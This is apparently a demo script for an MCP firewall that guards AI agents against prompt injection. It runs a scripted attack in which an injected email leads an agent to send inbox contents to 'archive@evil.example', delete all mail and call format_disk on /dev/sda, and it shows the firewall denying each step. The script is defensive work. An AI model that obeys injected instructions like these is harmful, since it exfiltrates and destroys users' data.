"""`mcp-firewall demo`: a tour of one attack and one benign session through `mcp-firewall wrap`.

Every step is a real MCP call over stdio through a real wrapper process in front of the demo inbox
server. Everything printed about the firewall (the detector's finding and span, the provenance edge
from the injected output to the call's argument, the policy decision, the question put to the person
and their answer) is read back from the wrapper's audit log, not predicted. The demo's client
declares the MCP elicitation capability, so the firewall asks its person (scripted here) in the
client's own UI.
"""

from __future__ import annotations

import json
import sys
import tempfile
from pathlib import Path
from typing import Any

import anyio
from mcp import Client
from mcp.client.stdio import StdioServerParameters
from mcp_types import ElicitRequestParams, ElicitResult, Implementation
from rich.console import Console
from rich.panel import Panel
from rich.table import Table
from rich.text import Text

DEMO_CONFIG = """
[audit]
include_content = true   # the tour shows the outputs the firewall decided on
"""

USER_TASK = "Summarise my inbox and send the quarterly numbers to carol@partner.example."
CLEANUP_TASK = USER_TASK + " Then empty the mailbox."
EXFIL = {
    "to": "archive@evil.example",
    "subject": "Fwd: inbox",
    "body": "Quarterly numbers: revenue is up 12%.",
}
REPLY = {"to": "carol@partner.example", "subject": "Numbers", "body": "Revenue is up 12%."}


class Person:
    """The person behind the demo client's elicitation UI: shows each question, answers `choice`."""

    def __init__(self, console: Console, choice: str = "deny") -> None:
        self.console, self.choice = console, choice

    async def __call__(self, context: Any, params: ElicitRequestParams) -> ElicitResult:
        """The client's elicitation callback: the firewall's question, the scripted answer."""
        message = getattr(params, "message", "")
        self.console.print(Panel(Text(message), title="the question the person sees, in the agent's UI"))
        self.console.print(f"  the person answers: [bold]{self.choice}[/]")
        return ElicitResult(action="accept", content={"decision": self.choice})


class Session:
    """One wrapped server process and its audit log, read back after every call."""

    def __init__(self, client: Client, audit: Path) -> None:
        self.client, self.audit, self.seen = client, audit, 0
        self.calls = self.blocked = self.asked = 0

    async def call(self, tool: str, arguments: dict[str, Any]) -> tuple[str, list[dict[str, Any]]]:
        """Call a tool; (the text the agent received, the audit records the call added)."""
        result = await self.client.call_tool(tool, arguments)
        lines = self.audit.read_text(encoding="utf-8").splitlines() if self.audit.exists() else []
        records = [json.loads(line) for line in lines[self.seen :]]
        self.seen = len(lines)
        self.calls += 1
        self.blocked += any(r["decision"] == "deny" for r in records)
        self.asked += any(r.get("approval") for r in records)
        return " ".join(getattr(block, "text", "") for block in result.content), records


def _wrapper(workdir: Path, audit: Path, *server_args: str) -> StdioServerParameters:
    config = workdir / "demo.toml"
    config.write_text(DEMO_CONFIG, encoding="utf-8")
    return StdioServerParameters(
        command=sys.executable,
        args=[
            *(
                "-m",
                "firewall",
                "wrap",
                "--config",
                str(config),
                "--audit-log",
                str(audit),
                "--name",
                "inbox",
            ),
            *("--", sys.executable, "-m", "firewall.tools.demo.server", *server_args),
        ],
    )


def _decision(records: list[dict[str, Any]]) -> Text:
    out = Text()
    for r in records:
        style = {"deny": "bold red", "redact": "bold yellow"}.get(r["decision"], "green")
        out.append(f"{r['kind']}: {r['decision'].upper()}", style)
        if r["rule_ids"]:
            out.append(f" ({', '.join(r['rule_ids'])})")
        out.append("\n")
    return out


def _highlight(text: str, spans: list[tuple[int, int]]) -> Text:
    out = Text(text)
    for start, end in spans:
        out.stylize("bold white on red", start, end)
    return out


def _show_output(console: Console, record: dict[str, Any], received: str) -> None:
    """The output as the server sent it with the detector's spans marked, then what the agent got."""
    payload = record.get("raw") or {}
    texts = [block.get("text", "") for block in payload.get("content", []) if isinstance(block, dict)]
    detections = [f for f in record["findings"] if f.get("score") is not None]
    spans = [(f["span"]["start"], f["span"]["end"]) for f in detections if f.get("span")]
    console.print(
        Panel(_highlight(texts[0] if texts else "", spans), title="tool output, as the server sent it")
    )
    for f in detections:
        span = f.get("span") or {}
        console.print(
            f"  detector: [bold]{f['rule_id']}[/] score {f['score']:.3f}, characters "
            f"{span.get('start')}-{span.get('end')} of {'.'.join(map(str, span.get('path', [])))}: "
            f"{f['message']}"
        )
    if not detections:
        console.print("  detector: no finding (is the ml extra installed? `pip install 'mcp-firewall[ml]'`)")
    node = (record.get("provenance") or [{}])[0]
    if node:
        console.print(
            f"  provenance: output node {node.get('node')} ({node.get('kind')}), labelled {node.get('trust')}"
        )
    console.print(
        Panel(Text(received), title="what the agent received", style="dim")
    )  # not markup: "[redacted ...]"


def _show_call(console: Console, tool: str, arguments: dict[str, Any], record: dict[str, Any]) -> None:
    console.print(f"  call: {tool}({json.dumps(arguments)})")
    for source in (record.get("provenance") or {}).get("derived_from", []):
        value = arguments
        for key in source["path"]:
            value = value[key]
        start, end = source["span"]
        console.print(
            f"  provenance edge: output node(s) {source['sources']} --derived_from--> argument "
            f"[bold]{'.'.join(map(str, source['path']))}[/] = {str(value)[start:end]!r} "
            f"({source['kind']} match, {source['trust']})"
        )
    for f in record["findings"]:
        console.print(f"  {f['stage'] or 'firewall'}: [bold]{f['rule_id']}[/]: {f['message']}")
    approval = record.get("approval") or {}
    if "answer" in approval:
        console.print(
            f"  audit record: approval answered [bold]{approval['answer']}[/] by {approval['by']} "
            f"via {approval['via']} at {approval['at']}"
        )
    style = "bold red" if record["decision"] == "deny" else "green"
    console.print(f"  decision: [{style}]{record['decision'].upper()}[/]")


async def _attack(console: Console, workdir: Path) -> Session:
    audit = workdir / "attack.jsonl"
    console.rule("[bold]Part 1: an injected e-mail tries to make the agent exfiltrate the inbox")
    console.print(f"User: {USER_TASK}\n")
    person = Person(console, "deny")
    agent = Implementation(name="the demo agent", version="1")
    async with Client(
        _wrapper(workdir, audit), mode="legacy", elicitation_callback=person, client_info=agent
    ) as client:
        session = Session(client, audit)
        await client.list_tools()
        session.seen = len(audit.read_text().splitlines()) if audit.exists() else 0

        console.print("[bold]1. The agent reads the inbox.[/] One mail carries an instruction for the AI.")
        received, records = await session.call("read_inbox", {})
        _show_output(console, next(r for r in records if r["kind"] == "tool_result"), received)
        console.print(_decision(records))

        console.print("[bold]2. A hijacked agent does what the mail says[/] (the scripted attacker step):")
        received, records = await session.call("send_email", EXFIL)
        _show_call(console, "send_email", EXFIL, records[0])
        console.print(Text(f"  the agent received: {received}\n"))

        console.print(
            "[bold]3. The mail also says to delete all mail.[/] The user did not ask for it. Once a "
            "detector has flagged text in the session, a destructive call like this is the attacker's "
            "and is denied; without a finding (the classifier off) it is only ambiguous, and the "
            "firewall asks the person in the client's UI (MCP elicitation), who denies it here:"
        )
        received, records = await session.call("delete_all_mail", {})
        _show_call(console, "delete_all_mail", {}, records[-1])
        console.print(Text(f"  the agent received: {received}\n"))

        console.print("[bold]4. Another layer[/]: a tool the server never listed.")
        table = Table(show_lines=True)
        for column in ("call", "firewall", "the agent received"):
            table.add_column(column, overflow="fold")
        received, records = await session.call("format_disk", {"device": "/dev/sda"})
        table.add_row('format_disk({"device": "/dev/sda"})', _decision(records), Text(received[:120]))
        console.print(table)
    return session


async def _benign(console: Console, workdir: Path) -> Session:
    audit = workdir / "benign.jsonl"
    console.rule("[bold]Part 2: the same task on a clean inbox passes")
    console.print(f"User: {CLEANUP_TASK}\n")
    table = Table(show_lines=True)
    for column in ("call", "firewall", "the agent received"):
        table.add_column(column, overflow="fold")
    person = Person(console, "once")
    agent = Implementation(name="the demo agent", version="1")
    async with Client(
        _wrapper(workdir, audit, "--clean"), mode="legacy", elicitation_callback=person, client_info=agent
    ) as client:
        session = Session(client, audit)
        await client.list_tools()
        session.seen = len(audit.read_text().splitlines()) if audit.exists() else 0
        for tool, arguments in (("read_inbox", {}), ("send_email", REPLY)):
            received, records = await session.call(tool, arguments)
            table.add_row(
                f"{tool}({json.dumps(arguments)})", _decision(records), " ".join(received.split())[:160]
            )
        console.print(table)
        console.print(
            "[bold]Emptying the mailbox[/] is destructive and the session has read mail (untrusted "
            "content), with nothing flagged: ambiguous, so the firewall asks, and the person approves:"
        )
        received, records = await session.call("delete_all_mail", {})
        _show_call(console, "delete_all_mail", {}, next(r for r in records if r["kind"] == "tool_call"))
        console.print(Text(f"  the agent received: {received}\n"))
    return session


async def _run(console: Console, workdir: Path) -> int:
    with anyio.fail_after(120):
        attack = await _attack(console, workdir)
        benign = await _benign(console, workdir)
    console.rule()
    console.print(
        f"Attack session: {attack.calls} calls, {attack.blocked} blocked, {attack.asked} put to the person. "
        f"Benign session: {benign.calls} calls, {benign.blocked} blocked, {benign.asked} put to the person. "
        "Every decision above was read back from the wrappers' audit logs."
    )
    return 0 if benign.blocked == 0 else 1


def run_demo() -> int:
    """Run the tour (attack, then benign) and print it; 0 when the benign session passed unblocked."""
    console = Console(stderr=False)
    with tempfile.TemporaryDirectory(prefix="mcp-firewall-demo-") as tmp:
        return anyio.run(_run, console, Path(tmp))
